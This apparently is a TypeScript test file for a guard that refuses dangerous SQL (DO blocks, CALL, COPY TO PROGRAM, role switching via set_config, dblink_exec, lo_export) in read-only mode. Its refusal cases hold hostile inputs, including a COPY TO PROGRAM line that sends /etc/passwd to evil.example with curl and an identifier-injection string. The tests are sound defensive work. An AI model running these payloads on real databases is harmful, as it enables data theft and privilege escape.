import { executorFor } from './index.js';
import { checkReadOnlySql, quoteIdentifier } from './sql-read-only.js';

// Issue 15 item 1 (e): what a read-only transaction does not stop is refused before it runs.

const executor = executorFor('sql.exec');

describe('checkReadOnlySql', () => {
  it.each<[string, string]>([
    ['DO', `DO $$ BEGIN PERFORM 1; END $$`],
    ['DO after a block comment, no space', `/* harmless */DO $$ BEGIN NULL; END $$`],
    ['DO after nested block comments', `/* a /* b */ c */ do $x$ begin null; end $x$`],
    ['DO after a line comment', `-- read the orders\nDO 'BEGIN NULL; END'`],
    ['do in mixed case', `dO $$ begin null; end $$`],
    ['CALL', `CALL refresh_all()`],
    ['call in lower case, schema-qualified', `call public.refresh_all()`],
    ['COPY … TO PROGRAM', `COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd evil.example'`],
    ['copy x to program, lower case', `copy x to program 'id'`],
    ['COPY with the keyword split by a comment', `COPY/**/inventory TO/**/PROGRAM 'id'`],
    ['COPY to a server file', `COPY inventory TO '/tmp/out.csv'`],
    ['set_config switching the role back', `SELECT set_config('role', 'none', true), * FROM secrets`],
    ['set_config quoted and schema-qualified', `SELECT pg_catalog."set_config"('role', 'none', true)`],
    ['query_to_xml running hidden SQL', `SELECT query_to_xml('select set_config(''role'',''none'',true)', true, true, '')`],
    ['dblink_exec', `SELECT dblink_exec('dbname=prod', 'DROP TABLE x')`],
    ['lo_export', `SELECT lo_export(16400, '/tmp/x')`],
    ['a Unicode-escaped identifier', `SELECT U&"\\0073et_config"('role', 'none', true)`],
    ['DO after a dollar-quoted string that ends', `SELECT $q$ text $q$; DO $$ BEGIN NULL; END $$`],
    ['DO after an E string with an escaped quote', `SELECT E'it\\'s', 1; DO $$ BEGIN NULL; END $$`],
    ['DO after a doubled quote', `SELECT 'it''s'; DO $$ BEGIN NULL; END $$`],
    ['DO after a quoted identifier with a doubled quote', `SELECT 1 AS "a""b"; DO $$ BEGIN NULL; END $$`],
    ['DO right after a number', `SELECT 1do $$ BEGIN NULL; END $$`],
  ])('refuses %s', (_name, sql) => {
    expect(() => checkReadOnlySql(sql)).toThrow(expect.objectContaining({ code: 'PARAMS_INVALID', message: expect.stringMatching(/^params\.sql is refused with readOnly: /) }));
  });

  it.each<[string, string]>([
    ['a plain select', `SELECT id, name FROM inventory WHERE name LIKE 'b%'`],
    ['the words inside a string', `SELECT 'DO CALL COPY x TO PROGRAM set_config' AS words`],
    ['the words inside an E string', `SELECT E'\\' DO CALL' AS words`],
    ['the words inside dollar quotes', `SELECT $body$ DO $$ CALL $$ $body$ AS words`],
    ['the words inside comments', `SELECT 1 -- DO CALL COPY\n/* DO /* CALL */ COPY */`],
    ['words that only contain them', `SELECT docs, caller, copyright, recall FROM t`],
    ['a parameter-like $1 text', `SELECT '$1'`],
  ])('admits %s', (_name, sql) => {
    expect(() => checkReadOnlySql(sql)).not.toThrow();
  });

  it('is what params checks with readOnly, and not without it', () => {
    expect(() => executor.validateParams({ sql: '/**/DO $$ BEGIN NULL; END $$' })).toThrow(expect.objectContaining({ code: 'PARAMS_INVALID' }));
    expect(() => executor.validateParams({ sql: 'CALL p()', readOnly: true })).toThrow(/CALL runs a procedure/);
    expect(executor.validateParams({ sql: 'CALL p()', readOnly: false })).toEqual({ sql: 'CALL p()', readOnly: false });
  });

  it('stays fast on long hostile input', () => {
    const started = Date.now();
    for (const sql of [`/*`.repeat(20_000), `$a$`.repeat(20_000), `'`.repeat(60_000), `E'\\`.repeat(20_000), `x`.repeat(65_000)]) {
      try {
        checkReadOnlySql(sql);
      } catch {
        // refusals are fine; time is what this measures
      }
    }
    expect(Date.now() - started).toBeLessThan(2000);
  });
});

describe('quoteIdentifier', () => {
  it.each<[string, string]>([
    ['report_ro', '"report_ro"'],
    ['Report RO', '"Report RO"'],
    ['a"; DROP ROLE x; --', '"a""; DROP ROLE x; --"'],
  ])('quotes %s', (name, quoted) => {
    expect(quoteIdentifier(name)).toBe(quoted);
  });
});

describe('sql.exec config readOnlyRole', () => {
  const valid = { host: 'db.internal', port: 5432, database: 'shop', user: 'app' };
  it('accepts a role name and keeps it', () => {
    expect(executor.validateConfig({ ...valid, readOnlyRole: 'report_ro' })).toMatchObject({ readOnlyRole: 'report_ro' });
  });
  it.each<[string, unknown]>([
    ['empty', ''],
    ['not a string', 7],
    ['64 characters', 'r'.repeat(64)],
    ['a newline', 'ro\nx'],
  ])('refuses a readOnlyRole %s (CONFIG_INVALID)', (_name, readOnlyRole) => {
    expect(() => executor.validateConfig({ ...valid, readOnlyRole })).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID', message: expect.stringMatching(/readOnlyRole/) }));
  });
});
